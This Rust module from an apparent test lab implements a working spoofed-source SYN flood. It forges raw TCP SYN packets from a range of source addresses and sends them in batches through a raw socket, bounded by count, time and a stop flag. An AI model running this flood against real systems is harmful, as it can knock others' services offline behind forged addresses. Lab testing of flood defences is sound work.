//! A spoofed-SYN flood for the lab: TCP SYNs to one VIP:port, each from another source address
//! of a range, written whole (IP header included) to a raw socket, 64 per `sendmmsg`. Bounded in
//! count and time, and stoppable; it sends only from the lab namespace it is started in.
use std::{
    io,
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    thread::JoinHandle,
    time::{Duration, Instant},
};

use ipnet::Ipv4Net;

use crate::netns::in_netns;

/// Frames per `sendmmsg` call.
const BATCH: usize = 64;
/// IPv4 header (no options) and TCP header (no options).
const LEN: usize = 40;

/// What to send.
#[derive(Clone, Debug)]
pub struct SynFlood {
    pub to: SocketAddrV4,
    /// Source addresses, used in order (wrapping around after the last).
    pub sources: Ipv4Net,
    /// At most this many SYNs...
    pub max_packets: u64,
    /// ...for at most this long.
    pub max_duration: Duration,
}

/// What was sent.
#[derive(Clone, Copy, Debug)]
pub struct Sent {
    pub packets: u64,
    pub elapsed: Duration,
}

impl Sent {
    pub fn rate(&self) -> f64 {
        self.packets as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// A flood running on its own thread.
pub struct Running {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<io::Result<Sent>>>,
}

impl Running {
    /// Stops the flood (if it has not ended) and returns what it sent.
    pub fn stop(mut self) -> io::Result<Sent> {
        self.stop.store(true, Ordering::Relaxed);
        self.join()
    }

    /// Whether the flood ended by itself (its count or time ran out).
    pub fn finished(&self) -> bool {
        self.thread.as_ref().is_none_or(|t| t.is_finished())
    }

    fn join(&mut self) -> io::Result<Sent> {
        match self.thread.take() {
            Some(t) => t
                .join()
                .map_err(|_| io::Error::other("flood thread panicked"))?,
            None => Err(io::Error::other("flood already joined")),
        }
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if self.thread.is_some() {
            let _ = self.join();
        }
    }
}

impl SynFlood {
    /// Starts sending from network namespace `ns`.
    pub fn start(self, ns: &str) -> io::Result<Running> {
        // The socket belongs to the namespace it is made in, whichever thread sends on it.
        let socket = in_netns(ns, raw_socket)??;
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let thread = std::thread::spawn(move || self.send(&socket, &flag));
        Ok(Running {
            stop,
            thread: Some(thread),
        })
    }

    fn send(&self, socket: &OwnedFd, stop: &AtomicBool) -> io::Result<Sent> {
        let start = Instant::now();
        let mut frames = [[0u8; LEN]; BATCH];
        let base = u32::from(self.sources.network());
        let span = 1u64 << (32 - self.sources.prefix_len());
        let mut rng = 0x9e37_79b9_7f4a_7c15u64;
        let dst = sockaddr(self.to);
        let mut sent = 0u64;
        while sent < self.max_packets
            && start.elapsed() < self.max_duration
            && !stop.load(Ordering::Relaxed)
        {
            let n = (self.max_packets - sent).min(BATCH as u64) as usize;
            for (i, frame) in frames[..n].iter_mut().enumerate() {
                rng ^= rng << 13;
                rng ^= rng >> 7;
                rng ^= rng << 17;
                let src = Ipv4Addr::from(base.wrapping_add(((sent + i as u64) % span) as u32));
                *frame = syn(
                    src,
                    *self.to.ip(),
                    rng as u16 | 1024,
                    self.to.port(),
                    rng >> 32,
                );
            }
            sent += send_batch(socket, &mut frames[..n], &dst)? as u64;
        }
        Ok(Sent {
            packets: sent,
            elapsed: start.elapsed(),
        })
    }
}

fn raw_socket() -> io::Result<OwnedFd> {
    // SAFETY: a plain syscall; the fd is owned from here on. IPPROTO_RAW implies IP_HDRINCL.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: `fd` is a fresh, valid descriptor.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

fn sockaddr(to: SocketAddrV4) -> libc::sockaddr_in {
    libc::sockaddr_in {
        sin_family: libc::AF_INET as u16,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(*to.ip()).to_be(),
        },
        sin_zero: [0; 8],
    }
}

/// Sends every frame of `frames` to `dst`; returns how many the socket took.
fn send_batch(
    socket: &OwnedFd,
    frames: &mut [[u8; LEN]],
    dst: &libc::sockaddr_in,
) -> io::Result<usize> {
    let mut iovs: Vec<libc::iovec> = frames
        .iter_mut()
        .map(|f| libc::iovec {
            iov_base: f.as_mut_ptr().cast(),
            iov_len: LEN,
        })
        .collect();
    let mut msgs: Vec<libc::mmsghdr> = iovs
        .iter_mut()
        .map(|iov| {
            // SAFETY: all-zero is a valid msghdr (null pointers, zero lengths).
            let mut hdr: libc::msghdr = unsafe { std::mem::zeroed() };
            hdr.msg_name = (dst as *const libc::sockaddr_in).cast_mut().cast();
            hdr.msg_namelen = size_of::<libc::sockaddr_in>() as u32;
            hdr.msg_iov = iov;
            hdr.msg_iovlen = 1;
            libc::mmsghdr {
                msg_hdr: hdr,
                msg_len: 0,
            }
        })
        .collect();
    // SAFETY: every header points at a live frame and at `dst`, for the call's duration.
    let n = unsafe { libc::sendmmsg(socket.as_raw_fd(), msgs.as_mut_ptr(), msgs.len() as u32, 0) };
    match n {
        n if n >= 0 => Ok(n as usize),
        _ => match io::Error::last_os_error() {
            // A full queue: the next call tries again.
            e if e.raw_os_error() == Some(libc::ENOBUFS) => Ok(0),
            e => Err(e),
        },
    }
}

/// A TCP SYN `src:sport -> dst:dport` with sequence number `seq`: IPv4 header (its checksum,
/// length and id the kernel fills in for a raw socket) and TCP header with its checksum.
pub fn syn(src: Ipv4Addr, dst: Ipv4Addr, sport: u16, dport: u16, seq: u64) -> [u8; LEN] {
    let mut f = [0u8; LEN];
    f[0] = 0x45;
    f[2..4].copy_from_slice(&(LEN as u16).to_be_bytes());
    f[6] = 0x40; // don't fragment
    f[8] = 64;
    f[9] = libc::IPPROTO_TCP as u8;
    f[12..16].copy_from_slice(&src.octets());
    f[16..20].copy_from_slice(&dst.octets());
    let tcp = &mut f[20..];
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&dport.to_be_bytes());
    tcp[4..8].copy_from_slice(&(seq as u32).to_be_bytes());
    tcp[12] = 5 << 4;
    tcp[13] = 0x02; // SYN
    tcp[14..16].copy_from_slice(&64_240u16.to_be_bytes());
    let check = tcp_checksum(src, dst, &f[20..]);
    f[36..38].copy_from_slice(&check.to_be_bytes());
    f
}

/// The TCP checksum of `segment` (checksum field zero) between `src` and `dst`.
fn tcp_checksum(src: Ipv4Addr, dst: Ipv4Addr, segment: &[u8]) -> u16 {
    let mut sum = 0u32;
    let mut add = |b: &[u8]| {
        for pair in b.chunks(2) {
            sum += u32::from(u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]));
        }
    };
    add(&src.octets());
    add(&dst.octets());
    add(&[0, libc::IPPROTO_TCP as u8]);
    add(&(segment.len() as u16).to_be_bytes());
    add(segment);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use etherparse::{Ipv4HeaderSlice, TcpHeaderSlice};

    use super::*;

    /// The SYN parses, and its TCP checksum is what etherparse computes from scratch.
    #[test]
    fn syn_has_a_valid_tcp_checksum() {
        let (src, dst) = (Ipv4Addr::new(100, 64, 1, 2), Ipv4Addr::new(198, 51, 100, 9));
        let f = syn(src, dst, 40_000, 80, 0x1234_5678);
        let ip = Ipv4HeaderSlice::from_slice(&f).expect("ipv4 header");
        assert_eq!((ip.source_addr(), ip.destination_addr()), (src, dst));
        let tcp = TcpHeaderSlice::from_slice(&f[20..]).expect("tcp header");
        assert!(tcp.syn() && !tcp.ack());
        assert_eq!((tcp.source_port(), tcp.destination_port()), (40_000, 80));
        let want = tcp
            .to_header()
            .calc_checksum_ipv4_raw(src.octets(), dst.octets(), &[])
            .expect("checksum");
        assert_eq!(tcp.checksum(), want);
    }
}
